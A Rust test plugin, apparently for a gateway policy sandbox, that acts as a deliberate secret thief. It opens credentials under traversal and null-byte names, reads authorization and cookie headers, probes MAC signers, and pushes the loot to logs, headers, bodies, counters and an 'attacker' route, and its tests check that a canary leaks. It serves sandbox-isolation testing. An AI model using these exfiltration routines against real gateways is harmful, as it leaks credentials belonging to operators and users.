//! Tries to get hold of secrets, and to get them out.
//!
//! It asks for everything, opens everything, reads wherever it can read, and
//! carries what it finds to every place that it can write: variables, headers of
//! both sides, bodies, counters, the log and other routes. A test plants a value
//! and looks for it in all of them. The thief never gives up: whatever is
//! refused, it goes on.

#![forbid(unsafe_code)]

use keyward_policy::{
    Decision, ErrorSource, Exchange, Failure, Level, Message, Problem, Verdict, policy,
};
use serde::Deserialize;

/// What to try.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, default, rename_all = "kebab-case")]
pub struct Settings {
    /// The attacks, in this order.
    pub attacks: Vec<Attack>,
    /// Aliases and names to try, granted or not.
    pub names: Vec<String>,
    /// Headers in which a secret might be seen.
    pub headers: Vec<String>,
    /// A path to take an attached secret to.
    pub path: String,
    /// Routes to take a secret to.
    pub routes: Vec<String>,
    /// Answer the client with the loot.
    pub respond: bool,
}

impl Default for Settings {
    fn default() -> Self {
        let texts = |texts: &[&str]| texts.iter().map(|&text| text.to_owned()).collect();
        Self {
            attacks: vec![
                Attack::Open,
                Attack::Attach,
                Attack::ReadBack,
                Attack::Call,
                Attack::Sign,
                Attack::Identify,
                Attack::Plant,
                Attack::Carry,
            ],
            names: texts(&[
                "backend",
                "billing-key",
                "signing-key",
                "mac",
                "consumers",
                "",
                "*",
                "../backend",
                "backend\0",
                "BACKEND",
                "no-such-secret",
            ]),
            headers: texts(&[
                "x-api-key",
                "X_Api_Key",
                "authorization",
                "ocp-apim-subscription-key",
                "signature",
                "signature-input",
                "cookie",
            ]),
            path: "/elsewhere".to_owned(),
            routes: texts(&["billing", "attacker"]),
            respond: false,
        }
    }
}

/// One thing to try.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Open every name as every kind, and note what each answers.
    Open,
    /// Attach every name to the exchange.
    Attach,
    /// Read the request's line and all headers and bodies of both sides, hoping to see
    /// what was attached, and what the client's connection tells.
    ReadBack,
    /// Take the request elsewhere after attaching.
    Reroute,
    /// Attach every name to requests of its own, to every route, and read the answers.
    Call,
    /// Have known messages signed, and check guesses.
    Sign,
    /// Ask who is calling, under every name.
    Identify,
    /// Move a counter, and note what it stands at.
    Count,
    /// Plant values of its own in the headers where secrets go.
    Plant,
    /// Carry the loot to every place that it can write.
    Carry,
}

/// What it found so far, as text.
struct Loot(String);

impl Loot {
    fn note(&mut self, what: &str, found: &[u8]) {
        self.0.push_str(what);
        self.0.push('=');
        self.0.push_str(&String::from_utf8_lossy(found));
        self.0.push('\n');
    }

    fn outcome<T>(&mut self, what: &str, name: &str, result: &Result<T, Failure>) {
        let outcome = match result {
            Ok(_) => "ok",
            Err(failure) => failure.as_str(),
        };
        self.note(what, name.as_bytes());
        self.note("  outcome", outcome.as_bytes());
    }
}

/// Steals.
///
/// # Errors
/// None.
pub fn steal(settings: &Settings, exchange: &Exchange<'_>) -> Decision {
    let mut loot = Loot(String::new());
    for attack in &settings.attacks {
        match attack {
            Attack::Open => open(settings, exchange, &mut loot),
            Attack::Attach => {
                for name in &settings.names {
                    let attached = exchange.credential(name).and_then(|it| it.attach());
                    loot.outcome("attach", name, &attached);
                    let signed = exchange.signer(name).and_then(|it| it.attach());
                    loot.outcome("attach-signer", name, &signed);
                }
            }
            Attack::ReadBack => {
                read(&exchange.request(), settings, &mut loot);
                read(&exchange.response(), settings, &mut loot);
                let asked = format!("{:?}", exchange.request_line());
                loot.note("request-line", asked.as_bytes());
                if let Some(name) = exchange.server_name() {
                    loot.note("server-name", name.as_bytes());
                }
                if let Some(facts) = exchange.client_certificate() {
                    loot.note("certificate", format!("{facts:?}").as_bytes());
                }
            }
            Attack::Reroute => {
                loot.outcome(
                    "set-path",
                    &settings.path,
                    &exchange.set_path(&settings.path),
                );
            }
            Attack::Call => call(settings, exchange, &mut loot),
            Attack::Sign => sign(settings, exchange, &mut loot),
            Attack::Identify => {
                for name in &settings.names {
                    let who = exchange.client_keys(name).and_then(|keys| keys.identify());
                    if let Ok(Some(subject)) = &who {
                        loot.note("subject", subject.as_bytes());
                    }
                    loot.outcome("identify", name, &who);
                }
            }
            Attack::Count => {
                let count = exchange.increment("seen", 1, 3600);
                loot.outcome("counted", "seen", &count);
                if let Ok(count) = count {
                    loot.note("count", count.to_string().as_bytes());
                }
            }
            Attack::Plant => {
                for header in &settings.headers {
                    let planted = exchange
                        .request()
                        .set_header(header, "planted-by-the-thief");
                    loot.outcome("plant", header, &planted);
                }
            }
            Attack::Carry => carry(exchange, &loot.0),
        }
    }
    if settings.respond {
        let response = exchange.respond(200)?;
        response.write_body(&loot.0)?;
        return Ok(Verdict::Respond);
    }
    Ok(Verdict::Proceed)
}

fn open(settings: &Settings, exchange: &Exchange<'_>, loot: &mut Loot) {
    for name in &settings.names {
        loot.outcome("credential", name, &exchange.credential(name));
        loot.outcome("signer", name, &exchange.signer(name));
        loot.outcome("mac-signer", name, &exchange.mac_signer(name));
        loot.outcome("mac-verifier", name, &exchange.mac_verifier(name));
        loot.outcome("client-keys", name, &exchange.client_keys(name));
    }
}

fn read(message: &Message<'_>, settings: &Settings, loot: &mut Loot) {
    let listed = message.header_names();
    for name in listed.iter().chain(&settings.headers) {
        for value in message.header_values(name).chain(message.header(name)) {
            loot.note(name, &value);
        }
    }
    while let Ok(Some(part)) = message.read_body(4096) {
        loot.note("body", &part);
    }
}

fn call(settings: &Settings, exchange: &Exchange<'_>, loot: &mut Loot) {
    for route in &settings.routes {
        for name in &settings.names {
            let answer = exchange
                .call(route, "POST", &settings.path)
                .and_then(|request| {
                    exchange.credential(name)?.attach_to(&request)?;
                    request.body(&loot.0)?.send()
                });
            loot.outcome(route, name, &answer);
            let Ok(answer) = answer else { continue };
            for header in &settings.headers {
                if let Some(value) = answer.header(header) {
                    loot.note(header, &value);
                }
            }
            if let Ok(body) = answer.body(64 * 1024) {
                loot.note("answer", &body);
            }
        }
    }
}

fn sign(settings: &Settings, exchange: &Exchange<'_>, loot: &mut Loot) {
    for name in &settings.names {
        for message in [&b""[..], b"\0", &[0x36; 64], &[0x5c; 64]] {
            let code = exchange.mac_signer(name).and_then(|key| key.sign(message));
            loot.outcome("sign", name, &code);
            if let Ok(code) = code {
                loot.note("code", &code);
            }
            for guess in [&b""[..], b"\0", &[0; 31], &[0; 32], &[0; 33]] {
                let right = exchange
                    .mac_verifier(name)
                    .and_then(|key| key.verify(message, guess));
                if right == Ok(true) {
                    loot.note("guessed", guess);
                }
            }
        }
    }
}

/// Writes the loot wherever it can be written.
fn carry(exchange: &Exchange<'_>, loot: &str) {
    for line in loot.lines() {
        exchange.log(Level::Error, line);
        let name: String = line.chars().take(100).collect();
        let _ = exchange.increment(&name, 1, 3600);
    }
    let _ = exchange.set_variable("loot", loot);
    // A header's value is one line.
    let line = loot.replace(|character: char| character.is_control(), " ");
    let line: String = line.chars().take(4096).collect();
    for message in [exchange.request(), exchange.response()] {
        let _ = message.set_header("x-loot", &line);
        let _ = message.write_body(loot);
    }
    let _ = exchange.set_query("loot", &line);
}

fn steal_on_error(settings: &Settings, exchange: &Exchange<'_>, source: ErrorSource) -> Decision {
    exchange.log(Level::Info, &format!("{source:?}"));
    if exchange.status().is_none() {
        exchange.reject(Problem::new(500, "Stolen"))?;
    }
    steal(settings, exchange)?;
    Ok(Verdict::Respond)
}

policy! {
    settings: Settings,
    inbound: steal,
    backend: steal,
    outbound: steal,
    on_error: steal_on_error,
}

#[cfg(test)]
mod tests {
    use keyward_policy::testing::Simulation;

    use super::*;

    #[test]
    fn the_thief_finds_a_value_that_is_there_to_be_found() {
        // The positive control: where a value can be read, the thief gets it out.
        let simulation = Simulation::request("GET", "/").header("x-api-key", "canary-7f3a");
        let decision = steal(&Settings::default(), &simulation.exchange());
        assert_eq!(decision, Ok(Verdict::Proceed));
        let loot = simulation.variable("loot").unwrap_or_default();
        assert!(String::from_utf8_lossy(&loot).contains("canary-7f3a"));
        assert!(
            simulation
                .log()
                .iter()
                .any(|(_, line)| line.contains("canary-7f3a"))
        );
        assert!(
            simulation
                .request_header("x-loot")
                .is_some_and(|it| it.contains("canary-7f3a"))
        );
    }

    #[test]
    fn the_thief_gets_a_secret_out_of_a_backend_that_returns_it() {
        let simulation = Simulation::request("GET", "/").grant("backend").route(
            "billing",
            200,
            b"you sent canary-7f3a",
        );
        let settings = Settings {
            respond: true,
            ..Settings::default()
        };
        let decision = steal(&settings, &simulation.exchange());
        assert_eq!(decision, Ok(Verdict::Respond));
        assert!(simulation.response_body().contains("canary-7f3a"));
        assert!(
            simulation
                .calls()
                .iter()
                .any(|call| call.attached == ["backend"])
        );
    }
}
